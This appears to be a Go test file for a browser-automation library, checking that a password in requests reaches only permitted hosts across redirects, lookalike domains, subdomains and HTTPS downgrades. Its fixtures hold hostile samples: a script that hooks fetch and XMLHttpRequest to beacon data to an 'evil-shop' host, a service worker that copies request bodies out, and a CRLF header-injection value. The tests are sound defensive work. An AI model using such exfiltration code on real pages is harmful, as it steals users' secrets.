package browser

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"rote/routine"
)

// theSecret is what must not arrive where it may not.
const theSecret = `hunter2 "sécret"+pw/7`

// secretSite is one server under many names, which notes to which of them the secret came, in
// any spelling.
type secretSite struct {
	port, otherPort string
	pages           map[string]any // by path

	mu sync.Mutex
	// got are the names, without the port, that got the secret, once each; asked are those that
	// got any request.
	got, asked []string
}

func newSecretSite(t *testing.T, pages map[string]any) *secretSite {
	t.Helper()
	s := &secretSite{pages: pages}
	var ports [2]string
	for i := range ports {
		server := httptest.NewServer(s)
		t.Cleanup(func() { server.CloseClientConnections(); server.Close() })
		_, ports[i], _ = net.SplitHostPort(server.Listener.Addr().String())
	}
	s.port, s.otherPort = ports[0], ports[1]
	return s
}

// at replaces SHOP and OTHER by the host and the two ports of the server, and PORT by the first.
func (s *secretSite) at(text string) string {
	return strings.NewReplacer("SHOP", "shop.localhost:"+s.port, "OTHER", "shop.localhost:"+s.otherPort, "PORT", s.port).Replace(text)
}

func (s *secretSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	search := newSecretSearch(&routine.Release{Texts: []routine.Hidden{theSecret}})
	carries := search.finds(r.URL.String()) || search.finds(string(body))
	for name, values := range r.Header {
		carries = carries || name != "Referer" && search.finds(strings.Join(values, " "))
	}
	host := strings.Replace(strings.TrimSuffix(r.Host, ":"+s.port), s.otherPort, "other", 1)
	s.mu.Lock()
	s.asked = append(s.asked, host+r.URL.Path)
	if carries && !slices.Contains(s.got, host) {
		s.got = append(s.got, host)
	}
	s.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
	w.Header().Set("Access-Control-Allow-Methods", "*")
	if to := r.URL.Query().Get("to"); to != "" {
		var code int
		_, _ = fmt.Sscanf(r.URL.Path, "/r%d", &code)
		w.Header().Set("Location", s.at(to))
		w.WriteHeader(code)
		return
	}
	switch page := s.pages[r.URL.Path].(type) {
	case string:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, preamble, s.at(page))
	case func(http.ResponseWriter, *http.Request):
		page(w, r)
	default:
		fmt.Fprint(w, "answer")
	}
}

func (s *secretSite) taken() (got, asked string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	slices.Sort(s.got)
	return strings.Join(s.got, " "), strings.Join(s.asked, " ")
}

// releasedRow is a request with the secret, and which names get the secret.
type releasedRow struct {
	name string
	// page is where the page is before, empty: blank.
	page string
	// fetch has SHOP and SECRET in its texts.
	fetch routine.Fetch
	// open reports whether the secret has no rules; hosts are those of its rules, SHOP by
	// default. typedOnly is the secret that may not be sent.
	open, typedOnly bool
	hosts           []string
	options         routine.PageOptions
	pages           map[string]any
	do              func(a *attempt) // before the request

	got   string
	code  routine.Code
	words string
}

// post is a request whose body has the secret.
func post(to string) routine.Fetch {
	body := `{"password":` + routine.JSONText(theSecret) + `}`
	return routine.Fetch{URL: to, Method: "POST", Body: &body, Headers: map[string]string{"content-type": "application/json"}}
}

// keyed is a request with a header that has the secret, as far as headers can.
func keyed(to, header string) routine.Fetch {
	return routine.Fetch{URL: to, Method: "GET", Headers: map[string]string{header: "Bearer " + url.QueryEscape(theSecret)}}
}

func query(to string) routine.Fetch {
	return routine.Fetch{URL: to + "?key=" + url.QueryEscape(theSecret), Method: "GET"}
}

func releasedRows() []releasedRow {
	const evil, denied = "http://evil-shop.localhost:PORT/", routine.CodeSecretDenied
	var rows []releasedRow
	for _, code := range []int{302, 301, 303, 307, 308} {
		from := fmt.Sprintf("http://SHOP/r%d?to=", code)
		keepsBody := func(row releasedRow) releasedRow {
			if code >= 307 {
				row.code, row.words = denied, "secret parameter"
			}
			return row
		}
		rows = append(rows,
			releasedRow{name: fmt.Sprint(code, " to a host outside"), page: "http://SHOP/", fetch: post(from + evil),
				got: "shop.localhost", code: denied, words: "shop.localhost"},
			releasedRow{name: fmt.Sprint(code, " to its own host"), page: "http://SHOP/", fetch: post(from + "http://SHOP/echo"), got: "shop.localhost"},
			releasedRow{name: fmt.Sprint(code, ", a parameter's value in a header"), page: "http://SHOP/", fetch: keyed(from+evil, "X-Key"), open: true,
				got: "shop.localhost", code: denied, words: "secret parameter"},
			keepsBody(releasedRow{name: fmt.Sprint(code, ", a parameter's value in the body"), page: "http://SHOP/", fetch: post(from + evil),
				open: true, got: "shop.localhost"}),
			releasedRow{name: fmt.Sprint(code, ", a parameter's value in Authorization, which is not repeated"), page: "http://SHOP/",
				fetch: keyed(from+evil, "Authorization"), open: true, got: "shop.localhost"},
			releasedRow{name: fmt.Sprint(code, ", from a blank page"), fetch: keyed(from+evil, "X-Key"), got: "shop.localhost", code: denied, words: "evil-shop"},
			releasedRow{name: fmt.Sprint(code, ", in a run that only makes requests"), fetch: keyed(from+evil, "X-Key"),
				options: routine.PageOptions{RequestsOnly: true}, got: "shop.localhost", code: denied, words: "evil-shop"},
			releasedRow{name: fmt.Sprint(code, " to another port"), page: "http://SHOP/", fetch: keyed(from+"http://OTHER/", "X-Key"),
				got: "shop.localhost", code: denied, words: "redirects"},
			releasedRow{name: fmt.Sprint(code, " to a subdomain"), page: "http://SHOP/", fetch: post(from + "http://sub.SHOP/"),
				got: "shop.localhost", code: denied, words: "sub.shop"},
			releasedRow{name: fmt.Sprint(code, " to a user at its host"), page: "http://SHOP/", fetch: keyed(from+"http://me@SHOP/echo", "X-Key"),
				got: "shop.localhost", code: routine.CodeNetworkError},
		)
	}
	return append(rows,
		releasedRow{name: "in the query", page: "http://SHOP/", fetch: query("http://SHOP/echo"), got: "shop.localhost"},
		releasedRow{name: "in the query, with a redirect", page: "http://SHOP/",
			fetch: routine.Fetch{URL: "http://SHOP/r302?to=" + url.QueryEscape(evil) + "&k=" + url.QueryEscape(theSecret),
				Method: "GET"}, open: true, got: "shop.localhost"},
		releasedRow{name: "a redirect that repeats the query", page: "http://SHOP/", fetch: routine.Fetch{Method: "GET", Headers: map[string]string{"X-A": "b"},
			URL: "http://SHOP/r302?to=" + url.QueryEscape(evil+"?k="+url.QueryEscape(theSecret))}, got: "shop.localhost", code: denied, words: "evil-shop"},
		releasedRow{name: "a host outside", page: "http://SHOP/", fetch: post(evil), code: denied, words: "the request to http://evil-shop.localhost"},
		releasedRow{name: "a host outside from a blank page", fetch: post(evil), code: denied, words: "evil-shop"},
		releasedRow{name: "from a page outside", page: evil, fetch: post("http://SHOP/echo"), code: denied, words: "the page is of http://evil-shop.localhost"},
		releasedRow{name: "from a blank page", fetch: post("http://SHOP/echo"), got: "shop.localhost"},
		releasedRow{name: "a name that ends like it", page: "http://SHOP/", fetch: post("http://notshop.localhost:PORT/"), code: denied, words: "notshop"},
		releasedRow{name: "a name that begins like it", page: "http://SHOP/", fetch: post("http://shop.localhost.evil:PORT/"),
			code: denied, words: "localhost.evil"},
		releasedRow{name: "a subdomain where subdomains may", page: "http://SHOP/",
			fetch: post("http://SHOP/r307?to=http://sub.SHOP/"), hosts: []string{"*.shop.localhost", "SHOP"},
			got: "shop.localhost sub.shop.localhost"},
		releasedRow{name: "upper case", page: "http://SHOP/", fetch: post("http://Shop.LocalHost:PORT/echo"), got: "shop.localhost"},
		releasedRow{name: "a dot at the end", page: "http://SHOP/", fetch: post("http://shop.localhost.:PORT/echo"), code: denied, words: "localhost.:"},
		releasedRow{name: "a user in the URL", page: "http://SHOP/", fetch: post("http://SHOP@evil-shop.localhost:PORT/echo"), code: denied},
		releasedRow{name: "a base elsewhere", page: "http://SHOP/based", fetch: post("echo"), code: denied, words: "evil-shop",
			pages: map[string]any{"/based": `<base href="` + evil + `">`}},
		releasedRow{name: "a relative URL", page: "http://SHOP/", fetch: post("echo"), got: "shop.localhost"},
		releasedRow{name: "a secret that is only typed", page: "http://SHOP/", fetch: post("http://SHOP/echo"), typedOnly: true,
			code: denied, words: "may only be typed"},
		releasedRow{name: "a header that adds a line", page: "http://SHOP/", fetch: routine.Fetch{URL: "http://SHOP/echo", Method: "GET",
			Headers: map[string]string{"X-Key": "a\r\nHost: evil\r\nX: " + theSecret}}, code: routine.CodeNetworkError},
		releasedRow{name: "a page that replaces what makes requests", page: "http://SHOP/hostile", fetch: post("http://SHOP/echo"), got: "shop.localhost",
			pages: map[string]any{"/hostile": `<script>
				for (const [o, n] of [[self, 'fetch'], [self, 'Request'], [self, 'Headers'], [JSON, 'stringify'], [Object, 'keys'],
					[self, 'URL'], [XMLHttpRequest.prototype, 'send']]) {
					const was = o[n];
					o[n] = function (...a) { navigator.sendBeacon('` + evil + `', a.map(String).join(' ')); return new.target ? new was(...a) : was.apply(this, a) };
				}</script>`}},
		releasedRow{name: "a policy that reports", page: "http://SHOP/strict", fetch: query("http://SHOP/echo"),
			code: routine.CodeNetworkError, words: "Content-Security-Policy",
			pages: map[string]any{"/strict": func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Security-Policy", "connect-src 'none'; report-uri http://evil-"+r.Host+"/report")
				fmt.Fprint(w, preamble)
			}}},
		releasedRow{name: "a worker that copies requests", page: "http://SHOP/served", fetch: post("http://SHOP/api"), got: "shop.localhost",
			do: func(a *attempt) { a.want(`LOG`, `"controlled;"`) },
			pages: map[string]any{"/served": servedPage, "/worker.js": scriptFile(`oninstall = () => skipWaiting();
				onactivate = e => e.waitUntil(clients.claim());
				onfetch = e => e.respondWith(e.request.clone().text().then(t => fetch('http://evil-' + location.host, {method: 'POST', mode: 'no-cors', body: t}))
					.then(() => fetch(e.request)))`)}},
	)
}

// A request with a secret goes where the secret may go, hop by hop, and nowhere else. The rows
// in which it arrives are the control of those in which it does not.
func TestSecretsInRequestsGoNowhereElse(t *testing.T) {
	t.Parallel()
	rows := releasedRows()
	for _, kind := range kinds {
		t.Run(kind.name, func(t *testing.T) {
			b := kind.browser()
			for i := range rows {
				if sampled(b, i) {
					continue
				}
				t.Run(rows[i].name, func(t *testing.T) {
					t.Parallel()
					rows[i].hold(t, b)
				})
			}
		})
	}
}

func (r *releasedRow) hold(t *testing.T, b *Browser) {
	s := newSecretSite(t, r.pages)
	a := &attempt{t: t, p: mustOpenWith(t, b, r.options), ctx: testContext(t)}
	if r.page != "" {
		if _, err := a.p.Navigate(a.ctx, s.at(r.page)); err != nil {
			t.Fatal(err)
		}
	}
	if r.do != nil {
		r.do(a)
	}
	f := r.fetch
	f.URL = s.at(f.URL)
	f.Release = &routine.Release{Texts: []routine.Hidden{theSecret}}
	if !r.open {
		f.Release.Secret, f.Release.Rules = "shop", &routine.SecretRules{Hosts: []string{s.at("SHOP")}, Requests: !r.typedOnly}
		if r.hosts != nil {
			f.Release.Rules.Hosts = strings.Fields(s.at(strings.Join(r.hosts, " ")))
		}
	}
	answer, err := a.p.Fetch(a.ctx, f, 0)
	got, asked := s.taken()
	if got != r.got {
		t.Errorf("the secret came to %q, want %q; %v; asked were %s", got, r.got, err, asked)
	}
	switch {
	case r.code != "":
		wantCode(t, err, r.code, r.words)
		if r.code == routine.CodeSecretDenied && strings.Contains(err.Error(), "hunter2") {
			t.Error("the message has the secret:", err)
		}
	case err != nil:
		t.Error(err)
	case string(answer.Body) != "answer":
		t.Errorf("the answer is %d %.50q", answer.Status, answer.Body)
	}
}

// A redirect from https to http is refused, and one from http to https of the same host is not.
// These pairs of URLs cannot be served on loopback.
func TestHopsBetweenHTTPAndHTTPS(t *testing.T) {
	rules := &routine.SecretRules{Hosts: []string{"shop.example", "*.shop.example"}, Requests: true}
	for _, row := range []struct {
		rules    *routine.SecretRules
		from, to string
		refused  bool
	}{
		{rules, "https://shop.example/a", "http://shop.example/a", true},
		{rules, "https://shop.example/a", "https://shop.example/b", false},
		{rules, "https://shop.example/a", "https://www.shop.example:8443/b", false},
		{rules, "https://shop.example/a", "https://shop.example.evil.example/", true},
		{rules, "https://shop.example/a", "https://evil-shop.example/", true},
		{rules, "https://shop.example/a", "https://shop.example@evil.example/", true},
		{rules, "https://shop.example/a", "https://me@shop.example/", true},
		{rules, "https://shop.example/a", "data:text/plain,x", true},
		{nil, "http://shop.example/a", "https://shop.example/a", false},
		{nil, "http://shop.example:8080/a", "https://shop.example/a", true},
		{nil, "https://shop.example/a", "http://shop.example/a", true},
		{nil, "https://shop.example/a", "https://www.shop.example/a", true},
		{nil, "https://shop.example/a", "https://shop.example:8443/a", true},
	} {
		body := theSecret
		from, err := url.Parse(row.from)
		if err != nil {
			t.Fatal(err)
		}
		r := newReleasedRequest(&routine.Release{Secret: "shop", Rules: row.rules, Texts: []routine.Hidden{theSecret}},
			&request{URL: row.from + "#top", Method: "POST", Body: &body}, from)
		first, hop := pausedHop{Network: "1"}, pausedHop{Network: "1", Redirected: "0"}
		first.Request.URL, first.Request.Method, first.Request.HasPostData = row.from, "POST", true
		hop.Request.URL, hop.Request.Method, hop.Request.HasPostData = row.to, "POST", true
		if r.judge(&first) {
			t.Errorf("%s is refused", row.from)
		}
		if r.judge(&hop) != row.refused || (r.refusal() != nil) != row.refused {
			t.Errorf("%s to %s: refused %v, want %v", row.from, row.to, !row.refused, row.refused)
		}
	}
}
